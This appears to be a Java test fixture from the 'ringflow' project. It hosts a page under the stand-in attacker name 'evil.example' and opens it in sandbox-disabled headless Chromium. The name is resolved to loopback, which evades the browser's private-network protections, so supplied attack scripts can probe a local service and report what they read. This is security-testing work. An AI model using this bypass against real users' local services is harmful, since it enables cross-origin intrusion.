package io.ringflow.cli.cluster;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.ringflow.capture.ring.NetnsFixture;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ArrayBlockingQueue;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.TimeUnit;

/**
 * A web page of another origin, opened with Chromium on the attacked host. Chromium resolves the
 * page's name to the loopback address, so that its rules for private networks don't block requests.
 */
final class AttackingPage {

    private static final String NAME = "evil.example";
    private static final int PATIENCE_SECONDS = 300;

    private AttackingPage() {}

    /**
     * Opens the page and returns what it saw: one line per attack whose answer it could read, then
     * {@code done}.
     *
     * @param script the attacks; {@code saw(text)} adds a line, {@code await} may be used
     * @param job the file that the script's variable {@code job} holds as a blob
     */
    static String run(String namespace, Path directory, String script, Path job) throws Exception {
        BlockingQueue<String> reports = new ArrayBlockingQueue<>(1);
        HttpServer pages =
                NetnsFixture.inNamespace(
                        namespace,
                        () ->
                                HttpServer.create(
                                        new InetSocketAddress(InetAddress.getLoopbackAddress(), 0),
                                        0));
        byte[] page = html(script).getBytes(StandardCharsets.UTF_8);
        pages.createContext("/", exchange -> answer(exchange, page));
        pages.createContext("/job", exchange -> answer(exchange, Files.readAllBytes(job)));
        pages.createContext(
                "/report",
                exchange -> {
                    byte[] body = exchange.getRequestBody().readAllBytes();
                    reports.offer(new String(body, StandardCharsets.UTF_8));
                    answer(exchange, new byte[0]);
                });
        pages.start();
        Process chromium = chromium(namespace, directory, pages.getAddress().getPort());
        try {
            String seen = reports.poll(PATIENCE_SECONDS, TimeUnit.SECONDS);
            return seen == null ? "nothing" : seen;
        } finally {
            chromium.descendants().forEach(ProcessHandle::destroyForcibly);
            chromium.destroyForcibly().onExit().join();
            pages.stop(0);
        }
    }

    private static String html(String script) {
        return """
        <!doctype html>
        <title>attack</title>
        <body>
        <script>
        const lines = [];
        const saw = text => lines.push(text);
        (async () => {
            const job = await (await fetch('/job')).blob();
            try {
        %s
            } catch (e) {
                saw('failed: ' + e);
            }
            saw('done');
            await fetch('/report', {method: 'POST', body: lines.join('\\n')});
        })();
        </script>
        """
                .formatted(script);
    }

    private static void answer(HttpExchange exchange, byte[] body) throws IOException {
        exchange.getResponseHeaders().add("Content-Type", "text/html");
        exchange.sendResponseHeaders(200, body.length == 0 ? -1 : body.length);
        exchange.getResponseBody().write(body);
        exchange.close();
    }

    private static Process chromium(String namespace, Path directory, int port) throws IOException {
        List<String> command =
                new ArrayList<>(List.of("ip", "netns", "exec", namespace, "chromium"));
        for (String option :
                List.of(
                        "headless",
                        "no-sandbox",
                        "disable-gpu",
                        "disable-quic",
                        "no-first-run",
                        "disable-background-networking",
                        "disable-component-update",
                        "disable-sync",
                        "user-data-dir=" + directory.resolve("profile"),
                        "host-resolver-rules=MAP " + NAME + " 127.0.0.1",
                        "remote-debugging-port=0")) {
            command.add("--" + option);
        }
        command.add("http://" + NAME + ":" + port + "/");
        return new ProcessBuilder(command)
                .redirectErrorStream(true)
                .redirectOutput(directory.resolve("chromium.out").toFile())
                .start();
    }
}
